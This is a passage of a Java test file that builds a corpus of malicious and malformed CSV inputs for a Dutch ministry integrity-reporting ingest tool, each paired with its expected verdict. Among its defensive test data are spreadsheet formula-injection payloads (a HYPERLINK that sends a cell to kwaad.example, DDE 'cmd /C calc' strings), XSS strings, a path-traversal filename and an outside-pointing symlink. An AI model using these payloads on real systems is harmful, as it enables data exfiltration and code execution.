package nl.jbr.integriteit.vijandig;

import static nl.jbr.integriteit.bevinding.BevindingCode.BESTAND_DUBBEL;
import static nl.jbr.integriteit.bevinding.BevindingCode.BESTAND_ELDERS_INGELEVERD;
import static nl.jbr.integriteit.bevinding.BevindingCode.BESTAND_LEEG;
import static nl.jbr.integriteit.bevinding.BevindingCode.BESTAND_ONLEESBAAR;
import static nl.jbr.integriteit.bevinding.BevindingCode.CATEGORIE_ONBEKEND;
import static nl.jbr.integriteit.bevinding.BevindingCode.DATUM_BUITEN_JAAR;
import static nl.jbr.integriteit.bevinding.BevindingCode.FORMULIER_ONBEKEND;
import static nl.jbr.integriteit.bevinding.BevindingCode.FTE_MEER_DAN_MEDEWERKERS;
import static nl.jbr.integriteit.bevinding.BevindingCode.JAAR_WIJKT_AF;
import static nl.jbr.integriteit.bevinding.BevindingCode.KOLOM_DUBBEL;
import static nl.jbr.integriteit.bevinding.BevindingCode.KOLOM_ONBEKEND;
import static nl.jbr.integriteit.bevinding.BevindingCode.KOLOM_ONTBREEKT;
import static nl.jbr.integriteit.bevinding.BevindingCode.LIMIET_OVERSCHREDEN;
import static nl.jbr.integriteit.bevinding.BevindingCode.MINISTERIE_WIJKT_AF;
import static nl.jbr.integriteit.bevinding.BevindingCode.NEVENWERKZAAMHEDEN_MEER_DAN_MEDEWERKERS;
import static nl.jbr.integriteit.bevinding.BevindingCode.ONZICHTBARE_TEKENS_VERWIJDERD;
import static nl.jbr.integriteit.bevinding.BevindingCode.REGEL_TE_VEEL_VELDEN;
import static nl.jbr.integriteit.bevinding.BevindingCode.SUBCATEGORIE_ANDERE_CATEGORIE;
import static nl.jbr.integriteit.bevinding.BevindingCode.SUBCATEGORIE_ONBEKEND;
import static nl.jbr.integriteit.bevinding.BevindingCode.TEKENCODERING_GEMENGD;
import static nl.jbr.integriteit.bevinding.BevindingCode.TOTAALREGEL;
import static nl.jbr.integriteit.bevinding.BevindingCode.WAARDE_BUITEN_GRENS;
import static nl.jbr.integriteit.bevinding.BevindingCode.WAARDE_DUBBEL;
import static nl.jbr.integriteit.bevinding.BevindingCode.WAARDE_GECORRIGEERD;
import static nl.jbr.integriteit.bevinding.BevindingCode.WAARDE_LIJKT_OP;
import static nl.jbr.integriteit.bevinding.BevindingCode.WAARDE_ONGELDIG;
import static nl.jbr.integriteit.bevinding.BevindingCode.WAARDE_ONTBREEKT;
import static nl.jbr.integriteit.bevinding.BevindingCode.WAARDE_TE_GROOT;
import static nl.jbr.integriteit.vijandig.Geval.Uitkomst.AFGEKEURD;
import static nl.jbr.integriteit.vijandig.Geval.Uitkomst.GEACCEPTEERD;
import static nl.jbr.integriteit.vijandig.Geval.Uitkomst.GENEGEERD;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.RandomAccessFile;
import java.io.UncheckedIOException;
import java.io.Writer;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import nl.jbr.integriteit.bevinding.BevindingCode;
import nl.jbr.integriteit.ingest.xlsx.VijandigeWerkmappen;

/**
 * The corpus of bad input (issue 5 item 1): every kind, where it is dropped and the outcome it must have.
 * Rejected files go next to the good files of BZK and FIN for 2023 (so the 2023 tables must come out exactly
 * as without them); accepted ones go to BZK/2024; what the scanner must ignore goes wherever its point is.
 * Large files are generated when the test runs, never committed.
 */
final class Corpus {

    /** Limits configured for the corpus run (the defaults are larger; see LimietenTest). */
    static final long MAX_RIJEN = 10_000;
    static final long MAX_BYTES = 20_000_000;

    static final String AFGEKEURD_BZK = "BZK/2023";
    static final String AFGEKEURD_FIN = "FIN/2023";
    static final String GEACCEPTEERD_MAP = "BZK/2024";

    /** A file outside the drop folder that a symbolic link points at; its bytes must never be archived. */
    static final String BUITEN_INHOUD = "onderdeel;categorie\nGeheim buiten de invoermap;g\n";

    private static final Charset CP1252 = Charset.forName("windows-1252");
    private static final String KOP = "onderdeel;categorie";

    private Corpus() {
    }

    static List<Geval> gevallen(Path buiten) {
        List<Geval> g = new ArrayList<>();

        // --- files that are not CSV text at all
        g.add(af("leeg bestand", "leeg.csv", bytes(new byte[0]), BESTAND_LEEG, 0L, null));
        g.add(af("alleen een BOM", "bom.csv", bytes(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}), BESTAND_LEEG, 0L, null));
        g.add(af("alleen lege regels", "leeg-regels.csv", tekst("\r\n\n   \n;;\n\t\n"), BESTAND_LEEG, 0L, null));
        g.add(af("binaire gegevens", "binair.csv", bytes(willekeurig(4096, 5)), BESTAND_ONLEESBAAR, 0L, null));
        g.add(af("gzip met de naam .csv", "gzip.csv", bytes(gzip(KOP + "\nDGOO;g\n")), BESTAND_ONLEESBAAR, 0L, null));
        g.add(af("xlsx met de naam .csv", "werkmap.csv", bytes(xlsx()), BESTAND_ONLEESBAAR, 0L, null));
        g.add(af("oud xls met de naam .csv", "oud.csv", bytes(concat(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0,
                (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1}, willekeurig(512, 6))), BESTAND_ONLEESBAAR, 0L, null));
        g.add(af("PDF met de naam .csv", "pdf.csv", tekst("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n"), BESTAND_ONLEESBAAR, 0L, null));
        g.add(af("UTF-16 met BOM", "utf16.csv", bytes(concat(new byte[] {(byte) 0xFF, (byte) 0xFE},
                (KOP + "\nDGOO;g\n").getBytes(StandardCharsets.UTF_16LE))), BESTAND_ONLEESBAAR, 0L, null));
        g.add(af("NUL-teken midden in tekst", "nul.csv", bytes(concat((KOP + "\nDG").getBytes(StandardCharsets.UTF_8),
                new byte[] {0}, "OO;g\n".getBytes(StandardCharsets.UTF_8))), BESTAND_ONLEESBAAR, 0L, null));

        // --- encodings
        g.add(ok("UTF-8 en Windows-1252 gemengd", "gemengd.csv", bytes(concat(
                (KOP + "\nAfdeling Financiën UTF-8;g\n").getBytes(StandardCharsets.UTF_8),
                "Afdeling Financiën 1252;h\n".getBytes(CP1252))), TEKENCODERING_GEMENGD, 0L, null));
        g.add(ok("zuiver Windows-1252", "cp1252.csv", bytes((KOP + "\nCaraïbisch Nederland;g\n").getBytes(CP1252)), null, null, null));

        // --- limits (generated at test time)
        g.add(af("regel van 10 MB", "lange-regel.csv", (Path p) -> {
            try (Writer w = Files.newBufferedWriter(p)) {
                w.write("onderdeel;categorie;omschrijving\nDGOO;g;");
                char[] blok = new char[1 << 16];
                java.util.Arrays.fill(blok, 'x');
                for (int i = 0; i < 160; i++) { // 160 x 64 KB = 10 MB
                    w.write(blok);
                }
                w.write("\n");
            }
        }, LIMIET_OVERSCHREDEN, 2L, null));
        g.add(af("meer regels dan de limiet", "te-veel-regels.csv", (Path p) -> {
            // header on line 1, MAX_RIJEN data rows on lines 2..MAX_RIJEN+1: the next one, line MAX_RIJEN+2, is over
            try (Writer w = Files.newBufferedWriter(p)) {
                w.write(KOP + "\n");
                for (long i = 0; i <= MAX_RIJEN + 5; i++) {
                    w.write("Onderdeel " + i + ";g\n");
                }
            }
        }, LIMIET_OVERSCHREDEN, MAX_RIJEN + 2, null));
        g.add(af("groter dan de bestandslimiet", "te-groot.csv", (Path p) -> {
            try (RandomAccessFile f = new RandomAccessFile(p.toFile(), "rw")) {
                f.write((KOP + "\nDGOO;g\n").getBytes(StandardCharsets.UTF_8));
                f.setLength(MAX_BYTES + 1);
            }
        }, LIMIET_OVERSCHREDEN, 0L, null));
        g.add(af("meer velden dan de limiet", "te-veel-velden.csv", tekst(KOP + "\nDGOO;g" + ";x".repeat(250) + "\n"),
                LIMIET_OVERSCHREDEN, 2L, null));
        g.add(afFin("duizenden fouten", "duizenden-fouten.csv", (Path p) -> {
            try (Writer w = Files.newBufferedWriter(p)) {
                w.write(KOP + "\n");
                for (int i = 0; i < 6000; i++) {
                    w.write("Onderdeel " + i + ";Zonnebloemen " + i + "\n");
                }
            }
        }, CATEGORIE_ONBEKEND, 2L, "categorie"));

        // --- quoting and structure
        g.add(af("aanhalingsteken niet gesloten", "quote.csv", tekst(KOP + "\nDGOO;\"g\nDGOO;h\n"), BESTAND_ONLEESBAAR, 2L, null));
        g.add(af("veld met duizend regeleinden", "regeleinden.csv", tekst("onderdeel;categorie;omschrijving\nDGOO;g;\""
                + "tekst\n".repeat(1000) + "\"\nDGOO;Zonnebloemen\n"), CATEGORIE_ONBEKEND, 3L, "categorie"));
        g.add(af("dubbele kop", "dubbele-kop.csv", tekst("onderdeel;categorie;Categorie\nDGOO;g;h\n"), KOLOM_DUBBEL, 1L, "Categorie"));
        g.add(ok("onbekende extra kolom", "extra-kolom.csv", tekst("onderdeel;categorie;kleur van de muur\nExtra;g;blauw\n"),
                KOLOM_ONBEKEND, 1L, "kleur van de muur"));
        g.add(ok("kolommen in een andere volgorde", "volgorde.csv", tekst("uitkomst;categorie;onderdeel\naangetoond;g;Volgorde\n"),
                null, null, null));
        g.add(ok("alleen een kopregel", "alleen-kop.csv", tekst("onderdeel;categorie;omschrijving\n"), null, null, null));
        g.add(af("verplichte kolom ontbreekt", "zonder-onderdeel.csv", tekst("categorie;uitkomst\ng;aangetoond\n"),
                KOLOM_ONTBREEKT, 1L, "onderdeel"));
        g.add(af("kop van geen formulier", "geen-formulier.csv", tekst("naam;adres\nJansen;Dorpsstraat 1\n"), FORMULIER_ONBEKEND, 1L, null));
        g.add(af("kop van twee formulieren", "twee-formulieren.csv", tekst("onderdeel;categorie;aantal_medewerkers\nDGOO;g;12\n"),
                FORMULIER_ONBEKEND, 1L, null));
        g.add(af("waarde zonder kop", "te-veel-velden-rij.csv", tekst(KOP + "\nDGOO;g\nDGOO;h;verschoven\n"),
                REGEL_TE_VEEL_VELDEN, 3L, "kolom 3"));
        g.add(af("verplichte waarde leeg", "leeg-onderdeel.csv", tekst(KOP + "\nDGOO;g\n;h\n"), WAARDE_ONTBREEKT, 3L, "onderdeel"));
        g.add(af("dubbel volgnummer", "dubbel-volgnummer.csv", tekst("volgnummer;" + KOP + "\nX-1;DGOO;g\nx-1;DGOO;h\n"),
                WAARDE_DUBBEL, 3L, "volgnummer"));
        g.add(afFin("personeel: onderdeel dubbel", "personeel-dubbel.csv",
                tekst("onderdeel;aantal_medewerkers;aantal_nevenwerkzaamheden\nDouane;10;1\nDouane;12;2\n"), WAARDE_DUBBEL, 3L, "onderdeel"));
        g.add(afFin("personeel: negatieve headcount", "personeel-negatief.csv",
                tekst("onderdeel;aantal_medewerkers;aantal_nevenwerkzaamheden\nDouane;-10;1\n"), WAARDE_ONGELDIG, 2L, "aantal_medewerkers"));
        g.add(afFin("personeel: fte met twee decimaaltekens", "personeel-fte.csv",
                tekst("onderdeel;aantal_medewerkers;aantal_fte;aantal_nevenwerkzaamheden\nDouane;10;9,5,3;1\n"), WAARDE_ONGELDIG, 2L, "aantal_fte"));
        g.add(af("scheidingsteken wisselt in het bestand", "wissel.csv", tekst(KOP + "\nDGOO;g\nDGOO,h\n"), WAARDE_ONTBREEKT, 3L, "categorie"));
        g.add(ok("alleen CR als regeleinde", "cr.csv", tekst(KOP + "\rOud Mac;g\rOud Mac 2;h\r"), null, null, null));
        g.add(ok("tab-gescheiden met CRLF", "tab.csv", tekst("onderdeel\tcategorie\r\nTabblad\tg\r\n"), null, null, null));
        g.add(ok("komma-gescheiden met komma's in aanhalingstekens", "komma.csv",
                tekst("onderdeel,categorie\n\"Directie Bedrijfsvoering, Inkoop\",\"Misbruik positie en belangenverstrengeling\"\n"), null, null, null));
        g.add(ok("Excel-regel sep=; boven de kop", "sep.csv", tekst("sep=;\r\nonderdeel;categorie\r\nSep;g\r\n"), null, null, null));
        // Excel hides the sep= line: the header is row 1, the unknown category is on row 3
        g.add(af("Excel-regel sep=, met een fout", "sep-fout.csv", tekst("sep=,\nonderdeel,categorie\nDGOO,g\nDGOO,Zonnebloemen\n"),
                CATEGORIE_ONBEKEND, 3L, "categorie"));
        g.add(af("twee exports achter elkaar geplakt", "geplakt.csv", tekst("\uFEFFonderdeel;categorie\nDGOO;g\n\uFEFFonderdeel;categorie\nDGOO;h\n"),
                CATEGORIE_ONBEKEND, 3L, "categorie"));
        // title rows above the header are skipped, and the feedback says where the header was found (issue 13)
        g.add(ok("titelregel boven de kop", "titel.csv", tekst("Registratieformulier integriteit 2023\n\nonderdeel;categorie\nDGOO;g\n"),
                nl.jbr.integriteit.bevinding.BevindingCode.KOPREGEL_NA_TITELREGELS, 3L, null));
        // a total row is one fout on its line (issue 10 item 1), not a missing category
        g.add(af("totaalregel onder de gegevens", "totaal.csv", tekst(KOP + ";aantal_betrokkenen\nDGOO;g;1\nTotaal;;1\n"),
                TOTAALREGEL, 3L, "onderdeel"));
        g.add(ok("koppen met harde spatie en hoofdletters", "koppen.csv", tekst("ONDERDEEL\u00A0; Categorie \nKoppen;g\n"), null, null, null));

        // --- ministry and year
        g.add(af("ministerie in bestand wijkt af van map", "ander-ministerie.csv", tekst("onderdeel;ministerie;categorie\nDGOO;FIN;g\n"),
                MINISTERIE_WIJKT_AF, 2L, "ministerie"));
        g.add(af("ministerie in bestand is geen code", "ministerie-onzin.csv", tekst("onderdeel;departement;categorie\nDGOO;XYZ;g\n"),
                MINISTERIE_WIJKT_AF, 2L, "departement"));
        g.add(af("jaar in bestand wijkt af van map", "ander-jaar.csv", tekst("onderdeel;jaar;categorie\nDGOO;2022;g\n"),
                JAAR_WIJKT_AF, 2L, "jaar"));
        g.add(genegeerd("map die geen ministerie is", "XYZ/2023", "incidenten.csv", tekst(KOP + "\nXYZ;g\n")));
        g.add(genegeerd("map met een formule als naam", "=HYPERLINK(1+1)/2023", "incidenten.csv", tekst(KOP + "\nFormulemap;g\n")));
        g.add(genegeerd("tweede map voor hetzelfde ministerie (kleine letters)", "bzk/2023", "incidenten.csv",
                tekst(KOP + "\nKleine letters;g\n")));
        g.add(genegeerd("jaarmap 0000", "BZK/0000", "incidenten.csv", tekst(KOP + "\nJaar nul;g\n")));
        g.add(genegeerd("jaarmap 2204 (verwisselde cijfers)", "BZK/2204", "incidenten.csv", tekst(KOP + "\nJaar 2204;g\n")));
        g.add(genegeerd("jaarmap 2O24 (letter O)", "BZK/2O24", "incidenten.csv", tekst(KOP + "\nJaarmap;g\n")));
        g.add(genegeerd("ministerie bestond niet in dat jaar", "EZK/2016", "incidenten.csv", tekst(KOP + "\nEZK;g\n")));
        g.add(genegeerd("bestand zonder jaarmap", "FIN", "los.csv", tekst(KOP + "\nLos;g\n")));

        // --- names and entries of the file system
        g.add(ok("spaties in de naam", "mijn meldingen 2024 (def).csv", tekst(KOP + "\nSpaties;g\n"), null, null, null));
        g.add(ok("accenten in de naam", "meldingen Caraïbisch één.csv", tekst(KOP + "\nAccenten;g\n"), null, null, null));
        g.add(ok("naam begint met een streepje", "-rf --no-preserve-root.csv", tekst(KOP + "\nStreepje;g\n"), null, null, null));
        g.add(ok("twee punten in de naam", "rapport..2024.csv", tekst(KOP + "\nPunten;g\n"), null, null, null));
        g.add(ok("HTML in de naam", "<img src=x onerror=alert(1)>.csv", tekst(KOP + "\nHtmlnaam;g\n"), null, null, null));
        g.add(ok("omkeerteken (RTL-override) in de naam", "factuur\u202Egpj.csv", tekst(KOP + "\nRtl;g\n"), null, null, null));
        g.add(ok("aanhalingsteken en backslash in de naam", "aanhalings\"teken\\backslash.csv", tekst(KOP + "\nAanhalingsteken;g\n"),
                null, null, null));
        g.add(ok("regeleinde in de naam", "nieuwe\nregel.csv", tekst(KOP + "\nRegeleinde;g\n"), null, null, null));
        // two names that become the same safe feedback name: each keeps its own feedback
        g.add(new Geval("naam die opgeschoond gelijk is aan een andere (afgekeurd)", GEACCEPTEERD_MAP, "botsing:1.csv",
                tekst(KOP + "\nBotsing;Zonnebloemen\n"), AFGEKEURD, CATEGORIE_ONBEKEND, 2L, "categorie"));
        g.add(ok("naam die opgeschoond gelijk is aan een andere (geaccepteerd)", "botsing_1.csv", tekst(KOP + "\nBotsing;g\n"),
                null, null, null));
        g.add(genegeerd("naam met ../ als %2F (verborgen bestand)", AFGEKEURD_BZK, "..%2F..%2Fpasswd.csv", tekst(KOP + "\nVerborgen;g\n")));
        g.add(genegeerd("symbolische link naar een bestand buiten de invoermap", AFGEKEURD_BZK, "@SUM(1+1) link.csv",
                (Path p) -> Files.createSymbolicLink(p, buiten)));
        g.add(genegeerd("map met de naam x.csv", AFGEKEURD_BZK, "x.csv", (Path p) -> {
            Files.createDirectories(p);
            Files.writeString(p.resolve("binnen.csv"), KOP + "\nIn map;g\n");
        }));
        g.add(afBzkCopy());

        // --- numbers (aantal_betrokkenen: whole number >= 1)
        String getalKop = KOP + ";aantal_betrokkenen\n";
        // 1.000 (not 1.234): the plausibility bound for betrokkenen per melding is 1,000
        g.add(ok("getal 1.000 (duizendtalpunt)", "getal-punt.csv", tekst(getalKop + "Getal punt;g;1.000\n"),
                WAARDE_GECORRIGEERD, 2L, "aantal_betrokkenen"));
        g.add(ok("getal met spaties ' 12 '", "getal-spaties.csv", tekst(getalKop + "Getal spaties;g; 12 \n"), null, null, null));
        g.add(af("getal 1,5", "getal-komma.csv", tekst(getalKop + "DGOO;g;1,5\n"), WAARDE_ONGELDIG, 2L, "aantal_betrokkenen"));
        g.add(af("getal -3", "getal-negatief.csv", tekst(getalKop + "DGOO;g;-3\n"), WAARDE_ONGELDIG, 2L, "aantal_betrokkenen"));
        g.add(af("getal 1e3", "getal-exponent.csv", tekst(getalKop + "DGOO;g;1e3\n"), WAARDE_ONGELDIG, 2L, "aantal_betrokkenen"));
        g.add(af("getal van twintig cijfers", "getal-groot.csv", tekst(getalKop + "DGOO;g;99999999999999999999\n"),
                WAARDE_TE_GROOT, 2L, "aantal_betrokkenen"));
        g.add(af("foutwaarde #N/B uit een spreadsheet", "getal-nb.csv", tekst(getalKop + "DGOO;g;#N/B\n"),
                WAARDE_ONGELDIG, 2L, "aantal_betrokkenen"));

        g.addAll(cijfers());
        g.addAll(tekens());

        // --- dates
        String datumKop = KOP + ";datum_melding\n";
        g.add(ok("datums in vijf notaties", "datums.csv", tekst(datumKop + "Datums;g;2024-03-01\nDatums;g;1-3-2024\n"
                + "Datums;g;01-03-2024\nDatums;g;1/3/2024\nDatums;g;01.03.2024\nDatums;g;2024-03-01 00:00:00\n"), null, null, null));
        g.add(af("onmogelijke datum 31-02", "datum-31-02.csv", tekst(datumKop + "DGOO;g;31-02-2023\n"), WAARDE_ONGELDIG, 2L, "datum_melding"));
        g.add(af("29 februari in een gewoon jaar", "datum-29-02.csv", tekst(datumKop + "DGOO;g;29-2-2023\n"), WAARDE_ONGELDIG, 2L, "datum_melding"));
        g.add(af("maand 13", "datum-maand-13.csv", tekst(datumKop + "DGOO;g;2023-13-01\n"), WAARDE_ONGELDIG, 2L, "datum_melding"));
        g.add(af("Amerikaanse datum", "datum-vs.csv", tekst(datumKop + "DGOO;g;03/15/2023\n"), WAARDE_ONGELDIG, 2L, "datum_melding"));
        g.add(af("jaar in twee cijfers", "datum-kort.csv", tekst(datumKop + "DGOO;g;1-3-23\n"), WAARDE_ONGELDIG, 2L, "datum_melding"));
        g.add(af("datum als spreadsheet-serienummer", "datum-serie.csv", tekst(datumKop + "DGOO;g;44986\n"), WAARDE_ONGELDIG, 2L, "datum_melding"));

        // --- every code list with a wrong value
        g.add(af("categorie onbekend", "categorie-onbekend.csv", tekst(KOP + "\nDGOO;Zonnebloemen\n"), CATEGORIE_ONBEKEND, 2L, "categorie"));
        for (String[] c : new String[][] {
                {"soort_incident", "diefstal van tijd"}, {"soort_onderzoek", "heel grondig"}, {"uitkomst", "misschien wel"},
                {"afdoening", "taart trakteren"}, {"aangifte", "wellicht"}, {"publiceerbaar", "graag"}}) {
            g.add(afFin("codelijst " + c[0] + " met onzin", "codelijst-" + c[0] + ".csv",
                    tekst(KOP + ";" + c[0] + "\nDouane;g;" + c[1] + "\n"), WAARDE_ONGELDIG, 2L, c[0]));
        }

        // --- formulas and markup (accepted: it is text; what we write must neutralise and escape it)
        String[] formules = {"=HYPERLINK(\"\"http://kwaad.example/?d=\"\"&A1;\"\"klik\"\")", "+1+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"};
        String volledigeKop = "volgnummer;onderdeel;categorie;subcategorie;omschrijving;toelichting_afronding;publiceerbaar\n";
        for (String kolom : List.of("volgnummer", "onderdeel", "subcategorie", "omschrijving", "toelichting_afronding")) {
            StringBuilder s = new StringBuilder(volledigeKop);
            for (int i = 0; i < formules.length; i++) {
                String f = "\"" + formules[i] + "\"";
                s.append(kolom.equals("volgnummer") ? f : "F-" + kolom + "-" + i).append(';')
                        .append(kolom.equals("onderdeel") ? f : "Formules " + kolom).append(";g;")
                        .append(kolom.equals("subcategorie") ? f : "Discriminatie").append(';')
                        .append(kolom.equals("omschrijving") ? f : "Gewone tekst").append(';')
                        .append(kolom.equals("toelichting_afronding") ? f : "Afgerond").append(";ja\n");
            }
            g.add(ok("formules in kolom " + kolom, "formule-" + kolom + ".csv", tekst(s.toString()),
                    kolom.equals("subcategorie") ? SUBCATEGORIE_ONBEKEND : null, kolom.equals("subcategorie") ? 2L : null,
                    kolom.equals("subcategorie") ? "subcategorie" : null));
        }
        g.add(ok("personeel: formules en HTML in onderdeel", "personeel-formules.csv", tekst(
                "onderdeel;aantal_medewerkers;aantal_nevenwerkzaamheden\n\"=HYPERLINK(\"\"http://kwaad.example\"\")\";100;3\n"
                        + "@SUM(1+1);50;1\n<script>alert(9)</script>;20;2\n"), null, null, null));
        g.add(afFin("formule in een codelijstkolom", "formule-categorie.csv",
                tekst(KOP + "\nDouane;\"=HYPERLINK(\"\"http://kwaad.example\"\")\"\n"), CATEGORIE_ONBEKEND, 2L, "categorie"));
        g.add(ok("HTML en entiteiten in vrije tekst", "html.csv", tekst(volledigeKop
                + "<script>alert(1)</script>;<script>alert(2)</script>;g;<b onmouseover=alert(3)>x</b>;"
                + "\"\"\"><img src=x onerror=alert(4)>\";\"&lt;script&gt;alert(5)&lt;/script&gt;\";ja\n"),
                // '<b ...' reads as the letter prefix of category b (contract 4): a warning, counted under g
                SUBCATEGORIE_ANDERE_CATEGORIE, 2L, "subcategorie"));
        g.add(ok("HTML in een kolomkop", "html-kop.csv", tekst(KOP + ";<svg onload=alert(8)>\nHtmlkop;g;x\n"),
                KOLOM_ONBEKEND, 1L, "<svg onload=alert(8)>"));
        g.add(afFin("HTML in een codelijstkolom", "html-categorie.csv",
                tekst(KOP + ";uitkomst\nDouane;<script>alert(6)</script>;'\"><svg onload=alert(7)>\n"), CATEGORIE_ONBEKEND, 2L, "categorie"));
        g.add(afFin("cel van 90.000 tekens", "lange-cel.csv", tekst(KOP + "\nDouane;" + "Zonnebloem".repeat(9000) + "\n"),
                CATEGORIE_ONBEKEND, 2L, "categorie"));
        return g;
    }

    /** Issue 10 items 1, 2 and 4: totals, plausibility, stored width, one file for one ministry. */
    private static List<Geval> cijfers() {
        List<Geval> g = new ArrayList<>();
        String personeel = "onderdeel;aantal_medewerkers;aantal_nevenwerkzaamheden\n";
        String betrokkenen = KOP + ";aantal_betrokkenen\n";
        // totals, in every form and every column that names a row
        g.add(afFin("personeel: totaalregel 'Totaal FIN'", "totaal-fin.csv",
                tekst(personeel + "Douane;10;1\nBelastingdienst;20;2\nTotaal FIN;30;3\n"), TOTAALREGEL, 4L, "onderdeel"));
        g.add(afFin("personeel: totaalregel 'FIN totaal:'", "fin-totaal.csv",
                tekst(personeel + "Douane;10;1\nFIN totaal:;10;1\n"), TOTAALREGEL, 3L, "onderdeel"));
        g.add(afFin("personeel: subtotaal met koppelteken 'Sub-totaal'", "sub-totaal.csv",
                tekst(personeel + "Douane;10;1\nSub-totaal;10;1\n"), TOTAALREGEL, 3L, "onderdeel"));
        g.add(af("volgnummer 'Eindtotaal'", "totaal-volgnummer.csv",
                tekst("volgnummer;" + KOP + "\nX-1;DGOO;g\nEindtotaal;DGOO;g\n"), TOTAALREGEL, 3L, "volgnummer"));
        g.add(af("ministerie 'Generaal totaal'", "totaal-ministerie.csv",
                tekst("onderdeel;ministerie;categorie\nDGOO;BZK;g\nDGOO;Generaal totaal;g\n"), TOTAALREGEL, 3L, "ministerie"));
        g.add(af("totaalregel met Cyrillische o ('Tоtaal')", "totaal-cyrillisch.csv",
                tekst(KOP + "\nDGOO;g\nT\u043Etaal;g\n"), TOTAALREGEL, 3L, "onderdeel"));
        g.add(ok("onderdeel 'Totaalbeheer Rijksvastgoed' is geen totaal", "totaalbeheer.csv",
                tekst(KOP + "\nTotaalbeheer Rijksvastgoed;g\n"), null, null, null));

        // plausibility bounds (input-schemas/plausibiliteit.csv) and the width the warehouse stores
        g.add(afFin("personeel: 1.000.001 medewerkers in een onderdeel", "personeel-te-veel.csv",
                tekst(personeel + "Douane;1000000;1\nBelastingdienst;1000001;2\n"), WAARDE_BUITEN_GRENS, 3L, "aantal_medewerkers"));
        g.add(afFin("personeel: twaalf keer 999999999999999999 medewerkers", "personeel-absurd.csv", (Path p) -> {
            StringBuilder b = new StringBuilder(personeel);
            for (int i = 1; i <= 12; i++) {
                b.append("Onderdeel ").append(i).append(";999999999999999999;0\n");
            }
            Files.writeString(p, b.toString());
        }, WAARDE_BUITEN_GRENS, 13L, "aantal_medewerkers"));
        g.add(afFin("personeel: 50 nevenwerkzaamheden bij 10 medewerkers", "personeel-neven.csv",
                tekst(personeel + "Douane;10;50\n"), NEVENWERKZAAMHEDEN_MEER_DAN_MEDEWERKERS, 2L, "aantal_nevenwerkzaamheden"));
        g.add(afFin("personeel: 5 nevenwerkzaamheden bij 0 medewerkers", "personeel-nul.csv",
                tekst(personeel + "Douane;10;10\nFIOD;0;5\n"), NEVENWERKZAAMHEDEN_MEER_DAN_MEDEWERKERS, 3L, "aantal_nevenwerkzaamheden"));
        g.add(afFin("personeel: 15,5 fte bij 10 medewerkers", "personeel-fte-te-veel.csv",
                tekst("onderdeel;aantal_medewerkers;aantal_fte;aantal_nevenwerkzaamheden\nDouane;10;15;1\nFIOD;10;15,5;1\n"),
                FTE_MEER_DAN_MEDEWERKERS, 3L, "aantal_fte"));
        g.add(afFin("personeel: fte met vijftien cijfers voor de komma", "personeel-fte-breed.csv",
                tekst("onderdeel;aantal_medewerkers;aantal_fte;aantal_nevenwerkzaamheden\nDouane;10;123456789012345;1\n"),
                WAARDE_TE_GROOT, 2L, "aantal_fte"));
        g.add(af("aantal_betrokkenen 2147483648 (past niet in INTEGER)", "betrokkenen-int.csv",
                tekst(betrokkenen + "DGOO;g;2147483648\n"), WAARDE_TE_GROOT, 2L, "aantal_betrokkenen"));
        g.add(af("aantal_betrokkenen 1001", "betrokkenen-1001.csv",
                tekst(betrokkenen + "DGOO;g;1000\nDGOO;g;1001\n"), WAARDE_BUITEN_GRENS, 3L, "aantal_betrokkenen"));
        g.add(af("getal met duizendtalpunten en 22 cijfers", "getal-punten-groot.csv",
                tekst(betrokkenen + "DGOO;g;1.000.000.000.000.000.000.000\n"), WAARDE_TE_GROOT, 2L, "aantal_betrokkenen"));
        g.add(ok("datum_melding buiten het rapportagejaar", "datum-buiten-jaar.csv",
                tekst(KOP + ";datum_melding\nDatum binnen;g;2024-12-31\nDatum buiten;g;31-12-2023\n"),
                DATUM_BUITEN_JAAR, 3L, "datum_melding"));

        // one file, one ministry: the good BZK 2023 staff file, byte for byte, in FIN's folder. Each version is checked
        // on its own merits: its ministerie column says BZK, so it is rejected for that (a copy of a file without that
        // column is accepted by the check and then set aside as BESTAND_ELDERS_INGELEVERD: EenBestandEenMinisterieTest)
        g.add(new Geval("kopie van het bestand van een ander ministerie", AFGEKEURD_FIN, "personeel van BZK.csv",
                (Path p) -> Files.copy(goed("BZK/2023/personeel.csv"), p), AFGEKEURD, MINISTERIE_WIJKT_AF, 2L, "ministerie"));
        return g;
    }

    /** Issue 10 item 3: text is normalised before it is compared; look-alikes are the same value. */
    private static List<Geval> tekens() {
        List<Geval> g = new ArrayList<>();
        String personeel = "onderdeel;aantal_medewerkers;aantal_nevenwerkzaamheden\n";
        String[][] varianten = {
                {"spatie zonder breedte", "Dou\u200Bane"}, {"harde spatie", "Douane\u00A0Rotterdam"},
                {"zacht afbreekstreepje", "Dou\u00ADane"}, {"BOM", "\uFEFFDouane"}, {"Cyrillische o", "D\u043Euane"},
                {"Griekse omicron", "D\u03BFuane"}, {"smalle harde spatie en dubbele spatie", "Douane\u202F Rotterdam"}};
        for (String[] v : varianten) {
            String eerste = v[1].contains("Rotterdam") ? "Douane Rotterdam" : "Douane";
            g.add(afFin("personeel: onderdeel herhaald met " + v[0], "personeel-" + v[0].replace(' ', '-') + ".csv",
                    tekst(personeel + eerste + ";40000;100\n" + v[1] + ";40000;100\n"), WAARDE_DUBBEL, 3L, "onderdeel"));
        }
        g.add(af("volgnummer herhaald met Cyrillische X", "volgnummer-cyrillisch.csv",
                tekst("volgnummer;" + KOP + "\nX-1;DGOO;g\n\u0425-1;DGOO;h\n"), WAARDE_DUBBEL, 3L, "volgnummer"));
        g.add(af("volgnummer herhaald met richtingsteken", "volgnummer-rlm.csv",
                tekst("volgnummer;" + KOP + "\nX-7;DGOO;g\nX-7\u200F;DGOO;h\n"), WAARDE_DUBBEL, 3L, "volgnummer"));
        // incidents: an onderdeel repeats legitimately; look-alike spellings count under the first one
        g.add(ok("incidenten: onderdeel met Cyrillische o telt onder de eerste schrijfwijze", "lijkt-op.csv",
